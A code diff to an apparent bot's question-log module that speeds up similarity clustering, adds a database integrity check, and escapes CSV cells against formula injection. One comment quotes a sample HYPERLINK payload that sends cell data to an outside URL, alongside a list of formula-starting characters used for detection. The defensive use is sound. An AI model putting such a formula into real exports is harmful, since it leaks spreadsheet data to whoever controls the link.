@@ -46,8 +46,10 @@ from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 from types import MappingProxyType
 
+import numpy as np
 from rapidfuzz import fuzz, process
 
+from bot.data_files import check_integrity, open_database
 from bot.render import valid_text
 from intents.reply import EMPTY, Reply
 
@@ -58,8 +60,14 @@ DEFAULT_FILENAME = "questions.sqlite3"
 MAX_QUESTION_CHARS = 1000
 # Two normalised questions at least this similar are one group for curators.
 GROUP_SIMILARITY = 85.0
-# Distinct texts considered when grouping, most frequent first: bounds the clustering work.
-MAX_GROUPED_TEXTS = 5000
+# Distinct texts considered when grouping, most frequent first: bounds the clustering work
+# (every pair is scored: 1,000 texts are two 1,000 x 1,000 score matrices, under a second).
+# Rarer wordings are left out of /unanswered and the CSV: someone planting 20 questions a
+# minute cannot make the command slow, only push the rarest wordings out.
+MAX_GROUPED_TEXTS = 1000
+# Texts are compared on their first this many characters: enough to tell questions apart,
+# and it keeps each comparison cheap whatever was pasted (stored texts keep 1,000).
+COMPARED_CHARS = 200
 # Counters of answered questions wait in memory at most this long before they are written.
 FLUSH_SECONDS = 1.0
 
@@ -199,18 +207,10 @@ class QuestionLog:
         self._lock = threading.Lock()
         self._pending_lock = threading.Lock()
         self._pending: Counter[_CounterKey] = Counter()
-        self.path.parent.mkdir(parents=True, exist_ok=True)
-        # isolation_level=None: we write BEGIN/COMMIT ourselves, so a commit is where we say.
-        self._db = sqlite3.connect(self.path, isolation_level=None, check_same_thread=False)
-        try:
-            self._db.execute("PRAGMA journal_mode=WAL")
-            # NORMAL in WAL mode: a commit survives a killed process; see the module docstring.
-            self._db.execute("PRAGMA synchronous=NORMAL")
-            self._db.execute("PRAGMA busy_timeout=5000")
-            self._migrate()
-        except BaseException:
-            self._db.close()
-            raise
+        # A corrupt file is moved aside and a new one started; one that cannot be opened at
+        # all gives way to one in memory (bot.data_files): answering never waits on this.
+        self._db = open_database(self.path, "question log", self._connect)
+        self._grouped: tuple[tuple[int, int | None], list[QuestionGroup]] | None = None
         self._last_purge: datetime | None = None
         self.purge()
         self._closing = threading.Event()
@@ -218,6 +218,21 @@ class QuestionLog:
             target=self._flush_periodically, name="question-log-flush", daemon=True
         )
         self._flusher.start()
+
+    def _connect(self, target: Path | str) -> sqlite3.Connection:
+        # isolation_level=None: we write BEGIN/COMMIT ourselves, so a commit is where we say.
+        self._db = sqlite3.connect(target, isolation_level=None, check_same_thread=False)
+        try:
+            self._db.execute("PRAGMA journal_mode=WAL")
+            # NORMAL in WAL mode: a commit survives a killed process; see the module docstring.
+            self._db.execute("PRAGMA synchronous=NORMAL")
+            self._db.execute("PRAGMA busy_timeout=5000")
+            check_integrity(self._db)
+            self._migrate()
+        except BaseException:
+            self._db.close()
+            raise
+        return self._db
 
     @classmethod
     def in_directory(cls, data_dir: Path, retention_days: int = 90) -> QuestionLog:
@@ -430,9 +445,17 @@ class QuestionLog:
         """Unanswered questions grouped by similarity, most frequent group first.
 
         Deterministic: texts are visited most frequent first (ties by text), and each joins
-        the first earlier group whose leading text is similar enough, else starts its own.
+        the earlier group whose leading text is most similar, if similar enough, else starts
+        its own. Only the ``MAX_GROUPED_TEXTS`` most frequent distinct texts are grouped,
+        each compared on its first ``COMPARED_CHARS`` characters.
         """
         with self._lock:
+            # /unanswered lists the groups and then sends them all as CSV: the second call
+            # reuses the first's grouping while no question was added or purged.
+            state = self._db.execute("SELECT COUNT(*), MAX(id) FROM unanswered").fetchone()
+            if self._grouped is not None and self._grouped[0] == state:
+                groups = self._grouped[1]
+                return list(groups) if limit is None else groups[:limit]
             rows = self._db.execute(
                 "SELECT question, normalized, language, best_entry, score, asked_at "
                 "FROM unanswered ORDER BY id"
@@ -443,28 +466,19 @@ class QuestionLog:
                 (question, language, best_entry, score, asked_at)
             )
         texts = sorted(by_text, key=lambda t: (-len(by_text[t]), t))[:MAX_GROUPED_TEXTS]
-        leaders: list[str] = []
-        members: list[list[str]] = []
-        for text in texts:
-            match = (
-                process.extractOne(text, leaders, scorer=_similarity, score_cutoff=GROUP_SIMILARITY)
-                if leaders
-                else None
-            )
-            if match is None:
-                leaders.append(text)
-                members.append([text])
-            else:
-                members[match[2]].append(text)
+        members = _cluster(texts)
         groups = [_group([r for t in texts_ for r in by_text[t]]) for texts_ in members]
         groups.sort(key=lambda g: (-g.count, g.example))
+        with self._lock:
+            self._grouped = (state, groups)
         return groups if limit is None else groups[:limit]
 
     def unanswered_csv(self) -> bytes:
         """Every unanswered group as CSV, for curators' spreadsheets.
 
         Encoded UTF-8 *with* a byte-order mark: without it Excel guesses the system code
-        page and shows Japanese (and umlauts) as mojibake; other tools ignore the BOM.
+        page and shows Japanese (and umlauts) as mojibake; other tools ignore the BOM. Every
+        text cell goes through ``spreadsheet_safe``: the questions are anybody's input.
         """
         out = io.StringIO()
         writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
@@ -483,12 +497,12 @@ class QuestionLog:
             writer.writerow(
                 [
                     group.count,
-                    group.example,
-                    " ".join(group.languages),
-                    group.best_entry or "",
+                    spreadsheet_safe(group.example),
+                    spreadsheet_safe(" ".join(group.languages)),
+                    spreadsheet_safe(group.best_entry or ""),
                     f"{group.best_score:.0f}",
                     group.last_asked.isoformat(timespec="seconds"),
-                    " | ".join(group.variants),
+                    spreadsheet_safe(" | ".join(group.variants)),
                 ]
             )
         return out.getvalue().encode("utf-8-sig")
@@ -525,11 +539,49 @@ class QuestionLog:
         return buffer.getvalue()
 
 
-def _similarity(a: str, b: str, **_: object) -> float:
-    # ratio catches typos and works without spaces (Japanese); token_sort_ratio also forgives
-    # a different word order. Never the set/partial scorers: they call a single shared word
-    # a perfect match.
-    return max(fuzz.ratio(a, b), fuzz.token_sort_ratio(a, b))
+# What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection"): a question
+# such as =HYPERLINK("http://…?d="&A3,"Click") would otherwise run when an admin opens it.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(cell: str) -> str:
+    """``cell`` with a leading ``'`` when it would start a formula; Excel, LibreOffice and
+    Google Sheets show the text and hide the quote."""
+    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
+
+
+def _cluster(texts: list[str]) -> list[list[str]]:
+    """``texts`` (most frequent first) in groups: each joins the earlier leader it is most
+    similar to, when that similarity reaches ``GROUP_SIMILARITY``, else leads a group.
+
+    Similarity is the higher of ``ratio`` (typos, and text without spaces: Japanese) and
+    ``token_sort_ratio`` (word order), never the set/partial scorers: they call a single
+    shared word a perfect match. All pairs are scored at once in C (``process.cdist``); the
+    token sort is done once per text (``ratio`` of sorted words is ``token_sort_ratio``).
+    """
+    if not texts:
+        return []
+    cut = [text[:COMPARED_CHARS] for text in texts]
+    words_sorted = [" ".join(sorted(text.split())) for text in cut]
+    scores = np.maximum(*(
+        process.cdist(
+            side, side, scorer=fuzz.ratio, score_cutoff=GROUP_SIMILARITY, dtype=np.float32,
+            workers=-1,
+        )
+        for side in (cut, words_sorted)
+    ))
+    leaders: list[int] = []
+    members: list[list[str]] = []
+    for index, text in enumerate(texts):
+        if leaders:
+            row = scores[index, leaders]
+            best = int(row.argmax())  # the first of equally similar leaders
+            if row[best] >= GROUP_SIMILARITY:
+                members[best].append(text)
+                continue
+        leaders.append(index)
+        members.append([text])
+    return members
 
 
 def _group(rows: list[tuple[str, str, str | None, float, str]]) -> QuestionGroup:
